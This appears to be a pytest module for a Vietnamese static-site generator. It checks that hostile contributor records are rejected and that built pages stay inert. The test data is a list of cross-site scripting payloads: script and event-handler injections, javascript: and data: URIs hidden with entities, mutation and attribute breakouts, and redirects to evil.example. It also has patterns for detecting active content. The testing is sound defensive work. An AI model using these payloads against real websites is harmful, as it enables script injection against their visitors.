"""A hostile contributor's records: refused by ``check``, and inert on the page anyway.

Each case is checked twice. ``check`` must refuse it with a located error (or, for the
few cases marked ``None``, accept it because it is harmless as written). Then the same
content is built into a real site *with the checker bypassed*, and the built HTML is
parsed: the page must be safe even where the friendly check misses something.
"""

from __future__ import annotations

import dataclasses
import html
import re
import shutil
import subprocess
import sys
import warnings
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from bs4 import BeautifulSoup, Tag

from generator import build as build_module
from generator.build import build
from generator.check import CheckResult, check_paths
from generator.contests.model import ContestData
from generator.publish import render
from generator.records import Record
from generator.schema import Citation, Contact, Metric, Recognition

from ..conftest import PROJECT, MakeTree, shared, valid_record
from .conftest import make_project, serve_folder

if TYPE_CHECKING:
    from playwright.sync_api import Page

BODY_LINE = 24  # valid-minimal.md: the snippet goes two lines after "Nội dung."
HOSTILE_BODIES: list[tuple[str, str, tuple[int, int] | None]] = [
    # (id, body snippet, (line offset in the snippet, column) of the first error)
    ("script", "<script>alert(1)</script>", (0, 1)),
    ("script-upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", (0, 1)),
    ("img-split-over-lines", "<img\nsrc=x onerror=alert(1)>", (0, 1)),
    ("img-upper", "<IMG SRC=\"javascript:alert('XSS')\">", (0, 1)),
    ("svg-onload", "<svg/onload=alert(1)>", (0, 1)),
    ("md-link-entity", "[bấm](jav&#x61;script:alert(1))", (0, 7)),
    ("md-link-mixed-case", "[x](JaVaScRiPt:alert(1))", (0, 5)),
    ("md-link-tab-entity", "[x](java&#9;script:alert(1))", (0, 5)),
    ("md-reference-link", "[x][r]\n\n[r]: javascript:alert(1)", (2, 6)),
    ("md-image-javascript", "![x](javascript:alert(1))", (0, 6)),
    (
        "md-link-data-html",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        (0, 5),
    ),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))", (0, 5)),
    ("md-link-protocol-relative", "[x](//evil.example/)", (0, 5)),
    ("autolink-javascript", "<javascript:alert(1)>", (0, 2)),
    ("a-href-entity", '<a href="&#106;avascript:alert(1)">x</a>', (0, 1)),
    ("a-href-named-entity", '<a href="javascript&colon;alert(1)">x</a>', (0, 1)),
    ("a-href-leading-space", '<a href="  javascript:alert(1)">x</a>', (0, 1)),
    ("details-ontoggle", "<details open ontoggle=alert(1)>x</details>", (0, 1)),
    ("math-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', (0, 1)),
    ("base", '<base href="https://evil.example/">', (0, 1)),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', (0, 1)),
    ("form", '<form action="https://evil.example/"><input name=x></form>', (0, 1)),
    ("style", "<style>body{display:none}</style>", (0, 1)),
    ("style-attribute", '<div style="background:url(javascript:alert(1))">x</div>', (0, 1)),
    ("link-stylesheet", "<link rel=stylesheet href=//evil.example/x.css>", (0, 1)),
    ("iframe", '<iframe src="https://evil.example/"></iframe>', (0, 1)),
    ("object", '<object data="x.swf"></object>', (0, 1)),
    ("embed", '<embed src="x.swf">', (0, 1)),
    ("event-handler-on-p", '<p onclick="alert(1)">x</p>', (0, 1)),
    ("event-handler-on-allowed-link", '<a href="https://ok.example/" onmouseover="alert(1)">x</a>',
     (0, 1)),
    ("comment-breakout", "<!--><script>alert(1)</script>-->", (0, 6)),
    ("nested-script", "<scr<script>ipt>alert(1)</script>", (0, 1)),
    ("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', (0, 1)),
    ("image-from-another-host", "![x](https://tracker.example/p.gif)", (0, 6)),
    # Python-Markdown's attr_list is not applied to bodies: this stays literal text.
    ("attr-list-onclick", 'Chữ.\n{: onclick="alert(1)" }', None),
]  # fmt: skip

HOSTILE_FIELDS: list[tuple[str, dict[str, Any], tuple[str, str] | None]] = [
    # (id, front-matter changes, (field, message code) of the check's error)
    ("title-img", {"title": "<img src=x onerror=alert(1)>"}, ("title", "html-in-text")),
    ("summary-script", {"summary": '"><script>alert(1)</script>'}, ("summary", "html-in-text")),
    ("summary-attribute-breakout", {"summary": 'x" autofocus onfocus="alert(1)'}, None),
    ("agency-title-breakout", {"agency": "</title><script>alert(1)</script>"},
     ("agency", "html-in-text")),
    ("tag-svg", {"tags": ["<svg onload=alert(1)>"]}, ("tags[0]", "html-in-text")),
    ("title-en-attr-list", {"title_en": '{: onclick="alert(1)" }'}, None),
    ("locality-md-link", {"locality": "[x](javascript:alert(1))"}, None),
    ("source-url-breakout", {"source_url": "https://a.bc/x)<img/src/onerror=alert(1)>"},
     ("sources[0].url", "bad-url")),
    ("source-url-javascript", {"source_url": "javascript:alert(1)//https://a.bc/"},
     ("sources[0].url", "bad-url")),
    ("source-url-quote", {"source_url": 'https://a.bc/x"onmouseover="alert(1)'},
     ("sources[0].url", "bad-url")),
    ("contact-email-markup", {"email": "a><img/src/onerror=alert(1)>@b.co"},
     ("contact.email", "bad-email")),
]  # fmt: skip

BAD_URL = re.compile(r"^(javascript|vbscript|data:text/html)", re.IGNORECASE)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster"}
ACTIVE_TAGS = {"script", "iframe", "object", "embed", "base", "meta", "link", "style", "form",
               "input", "math", "svg", "noscript", "template", "details"}  # fmt: skip


def _field_text(changes: dict[str, Any]) -> str:
    lines = []
    for key, value in changes.items():
        if key == "source_url":
            continue
        if key == "email":
            lines.append(f"contact:\n  unit: UBND xã\n  email: {_yaml(value)}")
        elif isinstance(value, list):
            lines.append(f"{key}: [{', '.join(_yaml(v) for v in value)}]")
        else:
            lines.append(f"{key}: {_yaml(value)}")
    return "\n".join(lines)


def _yaml(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def _field_record(changes: dict[str, Any]) -> str:
    text = valid_record()
    for key in ("title", "summary", "agency", "locality", "tags"):
        if key in changes:
            text = re.sub(rf"^{key}: .*$", lambda m: "", text, count=1, flags=re.MULTILINE)
    if "source_url" in changes:
        text = text.replace(
            "url: https://baodaklak.vn/bai-viet", f"url: {_yaml(changes['source_url'])}"
        )
    return text.replace("---\n", "---\n" + _field_text(changes) + "\n", 1).replace("\n\n\n", "\n")


@pytest.mark.parametrize(
    ("name", "snippet", "where"), HOSTILE_BODIES, ids=[c[0] for c in HOSTILE_BODIES]
)
def test_check_refuses_hostile_bodies_where_they_are(
    make_tree: MakeTree, name: str, snippet: str, where: tuple[int, int] | None
) -> None:
    root = make_tree({"a.md": valid_record() + "\n\n" + snippet + "\n"})
    errors = [i for i in check_paths(root, [root / "a.md"]).issues if i.is_error]
    if where is None:
        assert errors == []
        return
    first = next(i for i in errors if i.code == "unsafe-html")
    assert first.field == "body"
    assert (first.line, first.column) == (BODY_LINE + where[0], where[1]), first.as_text()
    assert "không được phép vì lý do an toàn" in first.message


@pytest.mark.parametrize(
    ("name", "changes", "expected"), HOSTILE_FIELDS, ids=[c[0] for c in HOSTILE_FIELDS]
)
def test_check_refuses_hostile_fields(
    make_tree: MakeTree, name: str, changes: dict[str, Any], expected: tuple[str, str] | None
) -> None:
    root = make_tree({"a.md": _field_record(changes)})
    errors = [i for i in check_paths(root, [root / "a.md"]).issues if i.is_error]
    assert [(i.field, i.code) for i in errors] == ([expected] if expected else [])


def _tampered(record: Record, name: str, body: str | None, changes: dict[str, Any]) -> Record:
    """``record`` as ``name`` with hostile content that never went through the checker."""
    update: dict[str, Any] = {k: v for k, v in changes.items() if k not in ("source_url", "email")}
    initiative = record.initiative
    if "source_url" in changes:
        source = Citation.model_construct(
            **{**initiative.sources[0].__dict__, "url": changes["source_url"]}
        )
        update["sources"] = [source]
    if "email" in changes:
        update["contact"] = Contact.model_construct(
            unit="UBND xã", email=changes["email"], phone=None
        )
    return dataclasses.replace(
        record,
        id=name,
        relpath=f"initiatives/dak-lak/{name}.md",
        initiative=initiative.model_copy(update=update),
        body=record.body if body is None else record.body + "\n\n" + body + "\n",
    )


@pytest.fixture(scope=shared("module"))
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every hostile case built into one site, with the checker bypassed."""
    root = make_project(tmp_path_factory.mktemp("hostile"), initiatives=None)
    seed = root / "initiatives" / "dak-lak" / "mau.md"
    seed.parent.mkdir(parents=True)
    seed.write_text(valid_record(), encoding="utf-8")
    (clean,) = check_paths(root).records
    records = [clean]
    records += [_tampered(clean, f"body-{name}", body, {}) for name, body, _ in HOSTILE_BODIES]
    records += [
        _tampered(clean, f"field-{name}", None, changes) for name, changes, _ in HOSTILE_FIELDS
    ]
    monkeypatch = pytest.MonkeyPatch()
    monkeypatch.setattr(
        build_module, "check_paths", lambda root, **_: CheckResult(len(records), records, [])
    )
    try:
        result = build(root)
    finally:
        monkeypatch.undo()
    assert result.ok, [i.as_text() for i in result.issues]
    assert result.site_dir is not None
    return result.site_dir


def active_content(page: Path, reference: Path) -> list[str]:
    """What in ``page`` could run or load something that ``reference`` (a clean page) does not."""
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    clean = BeautifulSoup(reference.read_text(encoding="utf-8"), "html.parser")
    found = []
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            if name.lower().startswith("on"):
                found.append(f"<{tag.name} {name}=>")
            text = " ".join(value) if isinstance(value, list) else str(value)
            plain = re.sub(r"[\x00-\x20]", "", html.unescape(text))
            if name.lower() in URL_ATTRIBUTES and BAD_URL.match(plain):
                found.append(f"<{tag.name} {name}={text!r}>")
    article = soup.find("article")
    assert isinstance(article, Tag)
    found += [
        f"<{tag.name}> in the article"
        for tag in article.find_all(ACTIVE_TAGS)
        if not tag.find_parent(class_="md-content__button")  # the theme's own icons
    ]
    found += [f"<img src={img.get('src')!r}>" for img in article.find_all("img")
              if str(img.get("src", "")).startswith(("http:", "https:", "//"))]  # fmt: skip
    if _head_signature(soup) != _head_signature(clean):
        found.append("the page head differs from a clean page's")
    return found


def _head_signature(soup: BeautifulSoup) -> list[tuple[str, tuple[str, ...]]]:
    """The elements that can act in a page: head elements and scripts, by tag and attributes."""
    elements = [*soup.head.find_all(True), *soup.find_all("script")]  # type: ignore[union-attr]
    return [(tag.name, tuple(sorted(tag.attrs))) for tag in elements]


HOSTILE_PAGES = [f"body-{c[0]}" for c in HOSTILE_BODIES] + [f"field-{c[0]}" for c in HOSTILE_FIELDS]


def test_hostile_content_is_inert_on_the_built_page(hostile_site: Path) -> None:
    """One test for all pages, so each page's problems are listed together."""
    reference = hostile_site / "sang-kien/mau/index.html"
    found = {
        name: active_content(hostile_site / "sang-kien" / name / "index.html", reference)
        for name in HOSTILE_PAGES
    }
    assert {name: problems for name, problems in found.items() if problems} == {}


def test_harmless_text_of_hostile_records_is_shown_literally(hostile_site: Path) -> None:
    def article_text(name: str) -> str:
        page = hostile_site / "sang-kien" / name / "index.html"
        article = BeautifulSoup(page.read_text("utf-8"), "html.parser").find("article")
        assert isinstance(article, Tag)
        return " ".join(article.get_text(" ").split())

    assert '{: onclick="alert(1)" }' in article_text("body-attr-list-onclick")
    assert "[x](javascript:alert(1))" in article_text("field-locality-md-link")
    assert 'x" autofocus onfocus="alert(1)' in article_text("field-summary-attribute-breakout")
    head = (hostile_site / "sang-kien/field-summary-attribute-breakout/index.html").read_text(
        "utf-8"
    )
    assert 'content="x&quot; autofocus onfocus=&quot;alert(1)"' in head


@pytest.mark.browser
def test_no_hostile_page_runs_script_in_a_browser(hostile_site: Path, page: Page) -> None:
    """Chromium parses as attackers intend: no dialog opens, no request leaves the site."""
    dialogs: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))
    with serve_folder(hostile_site) as base:
        for name in HOSTILE_PAGES:
            page.goto(f"{base}sang-kien/{name}/")
            page.wait_for_load_state("load")
            page.mouse.move(200, 300)  # hover handlers, had any survived
        foreign = [url for url in requests if not url.startswith(base)]
    assert dialogs == []
    assert foreign == []


def test_hostile_content_is_inert_when_zensical_builds_it(
    hostile_site: Path, tmp_path: Path
) -> None:
    """The page is safe by construction, not by MkDocs' settings: Zensical too."""
    project = tmp_path / "zensical"
    shutil.copytree(hostile_site.parent, project, ignore=shutil.ignore_patterns("site*"))
    zensical = Path(sys.executable).parent / "zensical"
    done = subprocess.run(
        [str(zensical), "build", "--config-file", "mkdocs.yml"],
        cwd=project, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    built = project / "site" / "sang-kien"
    reference = built / "mau" / "index.html"
    found = {name: active_content(built / name / "index.html", reference) for name in HOSTILE_PAGES}
    assert {name: problems for name, problems in found.items() if problems} == {}


# Every value a template prints, carrying markup that would break out of an attribute or
# open an element: the page must show it as text, once escaped (not twice).
PAYLOAD = "'\"><img src=x onerror=alert(1)>"
HOSTILE_FOLDER = f"initiatives/dak-lak/x{PAYLOAD}/edit-xss.md"  # issue 21's edit link
EXAMPLE_CONTEST = "vi-du-hoi-thi-dak-lak-2025"  # published, so its ranking is shown
HOSTILE_REPO = f"https://github.com/so/kho{PAYLOAD}"


def _hostile(text: str) -> str:
    return f"{text} {PAYLOAD}"


def _printed_record(record: Record) -> Record:
    """``record`` with a payload in every text the pages print, and in its path."""
    i = record.initiative
    place = record.place
    province = dataclasses.replace(
        place.current, name=_hostile("Tỉnh"), full_name=_hostile("Tỉnh đầy đủ")
    )
    update: dict[str, Any] = {
        name: _hostile(name)
        for name in ("title", "title_en", "summary", "summary_en", "agency", "locality")
    }
    update |= {
        "tags": [_hostile("từ khóa")],
        "images": [],
        "replicated_in": [_hostile("nơi nhân rộng")],
        "sources": [
            s.model_copy(update={k: _hostile(k) for k in ("title", "publisher", "quote")})
            for s in i.sources
        ],
        "metrics": [
            Metric.model_construct(
                label=_hostile("chỉ số"), value=12, unit=PAYLOAD, baseline=3, as_of=PAYLOAD
            )
        ],
        "recognition": [
            Recognition.model_construct(title=_hostile("giải"), by=_hostile("bởi"), year=PAYLOAD)
        ],
        "contact": Contact.model_construct(unit=_hostile("đơn vị"), email=None, phone=PAYLOAD),
    }
    return dataclasses.replace(
        record,
        relpath=HOSTILE_FOLDER,
        initiative=i.model_copy(update=update),
        place=dataclasses.replace(place, current=province),
    )


def _printed_contest(data: ContestData, entries: dict[str, Record]) -> ContestData:
    c = data.contest
    contest = c.model_copy(
        update={
            "title": _hostile("Hội thi"),
            "illustrative": False,  # an initiative's page names only real contests
            "organiser": _hostile("Ban tổ chức"),
            "year": PAYLOAD,
            "opens": PAYLOAD,
            "closes": PAYLOAD,
            "eligibility": c.eligibility.model_copy(
                update={"provinces": [PAYLOAD], "started_after": PAYLOAD}
            ),
            "criteria": [k.model_copy(update={"label": _hostile(k.label)}) for k in c.criteria],
            "prizes": [p.model_copy(update={"label": _hostile(p.label)}) for p in c.prizes],
            "panel": [
                j.model_copy(update={"name": _hostile(j.name), "unit": _hostile("đơn vị")})
                for j in c.panel
            ],
            "sources": [
                Citation.model_construct(
                    title=_hostile("nguồn"),
                    publisher=PAYLOAD,
                    date=PAYLOAD,
                    url=None,
                    quote=PAYLOAD,
                )
            ],
        }
    )
    return dataclasses.replace(
        data, contest=contest, entries=tuple(entries.get(r.id, r) for r in data.entries)
    )


@pytest.fixture(scope=shared("module"))
def printed_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """The bundled Đắk Lắk records and example contest, built with the check bypassed:
    one entered record and the contest carry the payload in every printed field; every
    generated page gets a breadcrumb and a feed title carrying it too."""
    root = make_project(tmp_path_factory.mktemp("printed"), initiatives=None)
    shutil.copytree(PROJECT / "initiatives" / "dak-lak", root / "initiatives" / "dak-lak")
    shutil.copytree(PROJECT / "contests" / EXAMPLE_CONTEST, root / "contests" / EXAMPLE_CONTEST)
    checked = check_paths(root)
    assert checked.ok, [i.as_text() for i in checked.issues]
    (contest,) = checked.contests
    target = contest.entries[0]
    hostile = _printed_record(target)
    records = [hostile if r.id == target.id else r for r in checked.records]
    contests = [_printed_contest(contest, {target.id: hostile})]
    result = CheckResult(len(records), records, [], contests)

    crumbs, page = render.crumbs, render.Renderer.page

    def hostile_crumbs(*pairs: tuple[str, Any]) -> list[dict[str, str]]:
        return [*crumbs(*pairs), {"title": render.meta_text(_hostile("mục")), "url": PAYLOAD}]

    def hostile_feed_title(self: Any, path: Any, template: str, meta: dict[str, Any],
                           origin: Any, **context: Any) -> None:  # fmt: skip
        meta.setdefault("feed_title", render.meta_text(_hostile("Tin mới")))
        page(self, path, template, meta, origin, **context)

    monkeypatch = pytest.MonkeyPatch()
    monkeypatch.setattr(build_module, "check_paths", lambda root, **_: result)
    monkeypatch.setattr(render, "crumbs", hostile_crumbs)
    monkeypatch.setattr(render.Renderer, "page", hostile_feed_title)
    monkeypatch.setenv("SANGKIEN_REPO_URL", HOSTILE_REPO)  # printed by the header's link
    try:
        with warnings.catch_warnings():  # the open data exports the bypassed values as given
            warnings.filterwarnings("ignore", "Pydantic serializer warnings", UserWarning)
            built = build(root)
    finally:
        monkeypatch.undo()
    assert built.ok and built.site_dir is not None, [i.as_text() for i in built.issues]
    return built.site_dir, target.id


def injected(html: BeautifulSoup) -> list[str]:
    """Elements and attributes the payload would have made, had it broken out."""
    found = [f"<img src={img.get('src')!r}>" for img in html.find_all("img", src="x")]
    for tag in html.find_all(True):
        found += [f"<{tag.name} {name}=…>" for name in tag.attrs if name.lower().startswith("on")]
    return found


def test_no_printed_value_injects_markup_on_any_page(printed_site: tuple[Path, str]) -> None:
    site, _ = printed_site
    found = {}
    for file in sorted(site.rglob("*.html")):
        problems = injected(BeautifulSoup(file.read_text("utf-8"), "html.parser"))
        if problems:
            found[file.relative_to(site).as_posix()] = problems
    assert found == {}


def test_printed_values_read_exactly_as_written(printed_site: tuple[Path, str]) -> None:
    """Escaped once: what the visitor reads (text and attributes) is the value itself."""
    site, record_id = printed_site

    def soup(path: str) -> BeautifulSoup:
        return BeautifulSoup((site / path).read_text("utf-8"), "html.parser")

    page = soup(f"sang-kien/{record_id}/index.html")
    head = page.head
    assert head is not None and head.title is not None
    assert head.title.get_text() == f"{_hostile('title')} - Sáng kiến cải cách hành chính"
    meta = {str(m.get("property") or m.get("name")): m.get("content") for m in head("meta")}
    assert meta["og:title"] == _hostile("title")
    assert (meta["description"], meta["og:description"]) == (_hostile("summary"),) * 2
    feed = head.find("link", rel="feed")
    assert isinstance(feed, Tag) and feed["title"] == _hostile("Tin mới")
    edit = [a["href"] for a in page.find_all("a", rel="edit")]
    assert edit and all(PAYLOAD in str(href) and "edit-xss.md" in str(href) for href in edit)
    crumbs = [li.get_text(strip=True) for li in page.select(".sk-breadcrumbs li")]
    assert crumbs == ["Trang chủ", "Tỉnh, thành", _hostile("Tỉnh"), _hostile("mục"),
                      _hostile("title")]  # fmt: skip
    assert str(page.select(".sk-breadcrumbs a")[-1]["href"]).endswith(PAYLOAD)
    assert {a["href"] for a in page.select("a.md-source")} == {HOSTILE_REPO}
    header = page.select_one("[data-md-component=header-topic]")
    assert header is not None and header.get_text(strip=True) == _hostile("title")
    article = page.find("article")
    assert isinstance(article, Tag)
    text = " ".join(article.get_text(" ").split())
    for value in ("agency", "locality", "chỉ số", "từ khóa", "giải", "bởi", "đơn vị",
                  "nơi nhân rộng", "publisher", "quote", "Tỉnh", "Hội thi"):  # fmt: skip
        assert _hostile(value) in text, value

    contest = soup(f"cuoc-thi/{EXAMPLE_CONTEST}/index.html")
    article = contest.find("article")
    assert isinstance(article, Tag)
    text = " ".join(article.get_text(" ").split())
    assert article.h1 is not None
    assert article.h1.get_text(strip=True).removesuffix("¶") == _hostile("Hội thi")
    for value in (_hostile("Ban tổ chức"), f"Năm: {PAYLOAD}", _hostile("title"),
                  _hostile("nguồn"), _hostile("Giải Nhất"), _hostile("đơn vị")):  # fmt: skip
        assert value in text, value
    index = " ".join(soup("cuoc-thi/index.html").get_text(" ").split())
    assert _hostile("Hội thi") in index and _hostile("Ban tổ chức") in index
